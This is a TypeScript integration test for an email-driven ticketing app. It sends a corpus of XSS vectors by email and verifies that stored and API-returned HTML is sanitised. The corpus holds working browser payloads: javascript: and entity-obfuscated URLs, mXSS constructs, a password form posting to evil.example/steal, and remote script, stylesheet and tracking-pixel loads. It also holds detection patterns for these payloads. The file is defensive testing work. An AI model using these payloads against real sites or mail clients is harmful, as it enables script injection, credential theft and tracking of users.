import { env } from "cloudflare:workers";
import { parse, type DefaultTreeAdapterTypes } from "parse5";
import { beforeAll, describe, expect, it } from "vitest";
import { call, newWorkspace } from "../helpers/api";
import { decodeFully } from "../helpers/html-entities";
import { deliverEmail } from "../helpers/mail";

/**
 * An XSS corpus delivered as email (plain, quoted-printable with soft breaks inside the markup,
 * base64), then read back: from D1 (what is stored) and through every API response about the
 * ticket. Checked on what a browser builds from it (the WHATWG parsing algorithm, parse5; the
 * checks below are written for this test): only known-safe elements, no event handlers,
 * no script-capable URL in any attribute, no CSS that loads or positions anything, and remote
 * images neutralised as workers/core/mail/html-sanitizer.ts documents (the URL only in
 * data-remote-src, never in src).
 */
const VECTORS: [string, string][] = [
  ["script", "<script>alert(1)</script>"],
  ["script src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"],
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onerror entities", '<img src=x onerror="&#97;lert(1)">'],
  ["tab in scheme", '<IMG SRC="jav&#x09;ascript:alert(1)">'],
  ["javascript href", '<a href="javascript:alert(1)">click</a>'],
  ["mixed case href", '<a href="JaVaScRiPt:alert(1)">click</a>'],
  ["decimal entities href", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
  ["hex and named entities href", '<a href="&#x6A;avascript&colon;alert(1)">click</a>'],
  ["no-semicolon entities href", '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">click</a>'],
  ["newline in scheme", '<a href="java\nscript:alert(1)">click</a>'],
  ["leading space href", '<a href="  javascript:alert(1)">click</a>'],
  ["data href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ["vbscript href", '<a href="vbscript:msgbox(1)">click</a>'],
  ["svg onload", "<svg onload=alert(1)><script>alert(2)</script></svg>"],
  ["svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'],
  ["svg data image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ["iframe", '<iframe src="https://evil.example/"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ["object", '<object data="javascript:alert(1)"></object>'],
  ["embed", '<embed src="https://evil.example/x.swf">'],
  ["base", '<base href="https://evil.example/">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["css expression", '<div style="width: expression(alert(1))">css</div>'],
  ["css url javascript", '<div style="background:url(javascript:alert(1))">css</div>'],
  ["css escapes", '<div style="background:u\\72l(https://tracker.example/e.gif)">css</div>'],
  ["css behavior", '<div style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#x)">css</div>'],
  ["style import", "<style>@import 'https://evil.example/x.css'; body { background: url(https://tracker.example/p.gif) }</style>"],
  ["form", '<form action="https://evil.example/steal"><input name="p" type="password"><button formaction="javascript:alert(1)">Log in</button></form>'],
  ["tracking pixel", '<img src="https://tracker.example/pixel.gif?u=1" width="1" height="1">'],
  ["protocol-relative image", '<img src="//tracker.example/p.gif">'],
  ["upper-case image", "<IMG SRC=HTTPS://TRACKER.EXAMPLE/UP.GIF>"],
  ["table background", '<table background="https://tracker.example/bg.gif"><tr><td>cell</td></tr></table>'],
  ["css background image", "<div style=\"background-image:url('https://tracker.example/bg.gif')\">css</div>"],
  ["body onload", "<body onload=alert(1)>body</body>"],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"],
  ["nested script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["broken quotes", '<img """><script>alert(1)</script>">'],
  ["overlay link", '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">win</a>'],
  ["comment", "<!--<script>alert(1)</script>--><!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["mxss math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ["textarea", "<textarea><script>alert(1)</script></textarea>"],
  ["video poster", "<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"],
  ["input image", '<input type="image" src="https://tracker.example/i.gif">'],
  ["slash separator", "<div/onmouseover='alert(1)'>hover</div>"],
  ["unterminated", "<img src=x onerror=alert(1)//"],
  ["data link", '<a href="data:image/png;base64,iVBORw0KGgo=">img</a>'],
  ["template", "<template><script>alert(1)</script></template><plaintext><script>alert(1)</script>"],
  ["xml namespace", '<html xmlns:x="urn:x"><x:script>alert(1)</x:script><?xml-stylesheet href="https://evil.example/x.xsl"?>'],
  ["attribute breaking", '<p title="a" onmouseover="alert(1)" x="b">p</p><p title=a onmouseover=alert(1)>p</p><p title=`a`onmouseover=alert(1)>p</p>'],
  ["srcset", '<img srcset="https://tracker.example/s.gif 1x" src="cid:nothing">'],
  ["background attribute", '<body background="https://tracker.example/b.gif"><td background="javascript:alert(1)">x</td></body>'],
];

/** The elements the sanitiser documents as allowed (docs/email.md, html-sanitizer.ts). */
const SAFE_ELEMENTS = new Set(
  (
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em " +
    "figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike " +
    "strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr"
  ).split(" "),
);
const URL_ATTRIBUTES = new Set(["href", "src", "action", "formaction", "background", "poster", "data", "srcset", "xlink:href", "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "usemap", "ping", "manifest"]);


interface Tag {
  name: string;
  attributes: Map<string, string>;
}

/** The elements (with their attributes, decoded) and the comments a browser builds from an HTML string (as the document of an iframe's srcdoc). */
function browserView(html: string): { tags: Tag[]; comments: string[] } {
  const tags: Tag[] = [];
  const comments: string[] = [];
  const visit = (parent: DefaultTreeAdapterTypes.ParentNode) => {
    for (const node of parent.childNodes) {
      if (node.nodeName === "#comment") comments.push((node as DefaultTreeAdapterTypes.CommentNode).data);
      if (!("tagName" in node)) continue;
      tags.push({ name: node.tagName.toLowerCase(), attributes: new Map(node.attrs.map((a) => [a.prefix ? `${a.prefix}:${a.name}` : a.name, a.value])) });
      visit(node.tagName === "template" ? (node as DefaultTreeAdapterTypes.Template).content : node);
    }
  };
  visit(parse(html));
  return { tags, comments };
}

const REMOTE = /^(?:[a-z][a-z0-9+.-]*:)?\/\//i;
const strip = (url: string) => decodeFully(url).replace(/[\u0000-\u0020\u007f-\u009f]/g, "");

/** Everything that would let the HTML run script, load a resource or cover the page; [] when safe. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const { tags, comments } = browserView(html);
  if (comments.length > 0) found.push(`comment or declaration: ${comments[0]!.slice(0, 60)}`);
  for (const tag of tags) {
    // <html>, <head> and <body> are in every document (their attributes are checked like any).
    if (!SAFE_ELEMENTS.has(tag.name) && !["html", "head", "body"].includes(tag.name)) found.push(`element <${tag.name}>`);
    for (const [name, raw] of tag.attributes) {
      const value = strip(raw);
      if (name.startsWith("on")) found.push(`event handler ${name} on <${tag.name}>`);
      if (/^(?:srcdoc|formaction|action|background|poster|srcset|xlink:href|lowsrc|dynsrc|http-equiv|xmlns)/.test(name)) found.push(`attribute ${name} on <${tag.name}>`);
      if (URL_ATTRIBUTES.has(name)) {
        if (/^(?:javascript|vbscript|data|livescript|mocha):/i.test(value) && !(tag.name === "img" && name === "src" && /^data:image\/(?:png|jpeg|jpg|gif|webp)[;,]/i.test(value)))
          found.push(`script-capable URL in ${name} on <${tag.name}>: ${value.slice(0, 60)}`);
        if (tag.name !== "a" && REMOTE.test(value)) found.push(`remote resource in ${name} on <${tag.name}>: ${value.slice(0, 60)}`);
      }
      if (tag.name === "a" && name === "href" && !/^(?:https?|mailto|tel):/i.test(value)) found.push(`link with scheme other than http(s)/mailto/tel: ${value.slice(0, 60)}`);
      if (name === "style") {
        // CSS escapes decoded as a browser would (u\\72l( is url().
        const css = decodeFully(raw).replace(/\\([0-9a-fA-F]{1,6})\s?|\\(.)/g, (_, hex, char) => (hex ? String.fromCodePoint(parseInt(hex, 16)) : char));
        if (/url\s*\(|expression|javascript|vbscript|behavior|binding|@import|image-set|position\s*:\s*(?:fixed|absolute|sticky)|z-index/i.test(css)) found.push(`dangerous CSS on <${tag.name}>: ${css.slice(0, 80)}`);
      }
    }
    if (tag.name === "a" && tag.attributes.has("href") && !/noopener/.test(tag.attributes.get("rel") ?? "")) found.push("link without rel=noopener");
  }
  return found;
}

// ---------------------------------------------------------------------------------------------
// Delivery

function qp(text: string): string {
  // Quoted-printable with a soft line break every 13 characters: constructs split across lines.
  const bytes = new TextEncoder().encode(text);
  let line = "";
  let out = "";
  for (const b of bytes) {
    const c = String.fromCharCode(b);
    line += b === 61 || b > 126 || b < 32 ? `=${b.toString(16).toUpperCase().padStart(2, "0")}` : c;
    if (line.length >= 13) {
      out += `${line}=\r\n`;
      line = "";
    }
  }
  return out + line;
}

function base64(text: string): string {
  const bytes = new TextEncoder().encode(text);
  let binary = "";
  for (const b of bytes) binary += String.fromCharCode(b);
  return (btoa(binary).match(/.{1,76}/g) ?? []).join("\r\n");
}

type Encoding = "8bit" | "quoted-printable" | "base64";

function hostileEmail(to: string, index: number, label: string, vector: string, encoding: Encoding, multipart: boolean): string {
  const html = `<html><head><title>t</title></head><body><p>Vector ${index} begins</p>${vector}<p>Vector ${index} ends</p></body></html>`;
  const encoded = encoding === "8bit" ? html : encoding === "base64" ? base64(html) : qp(html);
  const htmlPart = [`Content-Type: text/html; charset=utf-8`, `Content-Transfer-Encoding: ${encoding}`, "", encoded];
  const head = [`From: Mallory <mallory${index}@attacker.example>`, `To: ${to}`, `Subject: XSS ${index}: ${label}`, `Message-ID: <xss-${index}-${encoding}@attacker.example>`, "MIME-Version: 1.0"];
  if (!multipart) return [...head, ...htmlPart, ""].join("\r\n");
  return [...head, 'Content-Type: multipart/alternative; boundary="alt"', "", "--alt", "Content-Type: text/plain; charset=utf-8", "", `Vector ${index} (plain)`, "--alt", ...htmlPart, "--alt--", ""].join("\r\n");
}

interface Delivered {
  index: number;
  label: string;
  vector: string;
  ticketId: string;
  stored: string | null;
}

let token: string;
const delivered: Delivered[] = [];
const ENCODINGS: Encoding[] = ["8bit", "quoted-printable", "base64"];

beforeAll(async () => {
  const workspace = await newWorkspace("Xss");
  token = workspace.token;
  for (const [index, [label, vector]] of VECTORS.entries()) {
    const to = `${workspace.slug}+xss-${index}@kefu.localhost`;
    const raw = hostileEmail(to, index, label, vector, ENCODINGS[index % 3]!, index % 2 === 0);
    const result = await deliverEmail(raw, { from: `mallory${index}@attacker.example`, to });
    expect(result.error, label).toBeNull();
    const row = await env.DB.prepare("select i.status, i.ticket_id, m.body_html from inbound_messages i left join messages m on m.id = i.message_id where i.envelope_to = ?")
      .bind(to)
      .first<{ status: string; ticket_id: string; body_html: string | null }>();
    expect(row?.status, label).toBe("processed");
    delivered.push({ index, label, vector, ticketId: row!.ticket_id, stored: row!.body_html });
  }
}, 180_000);

/** Every string under a key naming HTML, anywhere in a JSON value. */
function htmlFields(value: unknown, key = ""): string[] {
  if (typeof value === "string") return /html/i.test(key) ? [value] : [];
  if (Array.isArray(value)) return value.flatMap((v) => htmlFields(v, key));
  if (value && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => htmlFields(v, k));
  return [];
}

describe("an XSS corpus through email()", () => {
  it("the tokenizer used here finds every construct in the raw corpus (control)", () => {
    const missed = VECTORS.filter(([, vector]) => dangersIn(`<p>begins</p>${vector}<p>ends</p>`).length === 0).map(([label]) => label);
    expect(missed).toEqual([]);
  });

  it("stores every message's HTML sanitised, keeping the text around the vector", () => {
    expect(delivered).toHaveLength(VECTORS.length);
    for (const { index, label, stored } of delivered) {
      expect(stored, label).not.toBeNull();
      expect(dangersIn(stored!), `${label}: ${stored}`).toEqual([]);
      expect(stored, label).toContain(`Vector ${index} begins`);
      // An unclosed raw-text element (<style>, <plaintext>) swallows the rest of the document in a browser too.
      if (label !== "mxss math" && label !== "template") expect(stored, label).toContain(`Vector ${index} ends`);
    }
  }, 180_000);

  it("neutralises remote images: the URL only in data-remote-src, never loaded", () => {
    const remote = delivered.filter(({ label }) => ["tracking pixel", "protocol-relative image", "upper-case image"].includes(label));
    expect(remote).toHaveLength(3);
    for (const { label, stored } of remote) {
      const images = browserView(stored!).tags.filter((t) => t.name === "img");
      expect(images, label).toHaveLength(1);
      expect(images[0]!.attributes.has("src"), `${label}: ${stored}`).toBe(false);
      expect(decodeFully(images[0]!.attributes.get("data-remote-src") ?? "").toLowerCase(), label).toMatch(/^(?:https:)?\/\/tracker\.example\//);
    }
    for (const { label, stored } of delivered.filter(({ vector }) => /tracker\.example/i.test(vector)))
      for (const tag of browserView(stored!).tags)
        for (const [name, value] of tag.attributes) if (name !== "data-remote-src") expect(decodeFully(value), `${label}: ${name}`).not.toMatch(/tracker\.example/i);
  });

  it("no API response about these tickets carries unsanitised HTML", async () => {
    let checked = 0;
    const lists = ["/tickets?limit=100", "/tickets?q=Vector&limit=100", "/inbound-messages?status=processed&limit=100"];
    const responses = [...(await Promise.all(lists.map((path) => call("GET", path, { token }))))];
    for (const { ticketId } of delivered)
      for (const path of ["", "/messages", "/events", "/attachments", "/participants"]) responses.push(await call("GET", `/tickets/${ticketId}${path}`, { token }));
    for (const res of responses) {
      expect(res.status).toBe(200);
      for (const html of htmlFields(res.body)) {
        checked++;
        expect(dangersIn(html), html).toEqual([]);
      }
    }
    const messages = responses.flatMap((r) => (Array.isArray(r.body?.items) ? r.body.items : [])).filter((m: any) => typeof m.bodyHtml === "string");
    expect(messages.length).toBeGreaterThanOrEqual(VECTORS.length);
    console.log(`XSS corpus through email(): ${VECTORS.length} vectors, ${responses.length} API responses, ${checked} HTML fields checked, all sanitised`);
  }, 180_000);
});
